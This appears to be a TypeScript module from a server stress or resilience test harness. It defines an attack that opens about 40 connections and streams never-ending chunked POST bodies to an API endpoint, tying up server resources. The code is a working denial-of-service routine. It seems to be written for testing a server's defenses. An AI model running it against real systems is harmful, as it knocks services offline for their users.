import { type Attack, scaled } from '../attack.ts'
import { connect, head, readAnswer } from '../wire/connect.ts'
import { hold } from '../wire/hold.ts'

const CHUNK = Buffer.concat([Buffer.from('4000\r\n'), Buffer.alloc(0x4000, ' '), Buffer.from('\r\n')])
const EVERY_MS = 100
/** The most that the attacker itself buffers, bytes. */
const MOST_UNSENT = 1024 * 1024

export const endlessChunks: Attack = {
  title: '40 chunked bodies without an end, 160 KiB a second each',
  begin(aim, tally) {
    hold(scaled(aim, 40), (number) => {
      const socket = connect(aim, tally, number)
      readAnswer(socket, tally)
      const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }
      socket.write(head('POST /api/v1/executions', headers))
      const send = setInterval(() => {
        if (socket.writableLength > MOST_UNSENT) return
        tally.did('chunks')
        socket.write(CHUNK)
      }, EVERY_MS)
      socket.once('close', () => clearInterval(send))
      return socket
    })
  },
}
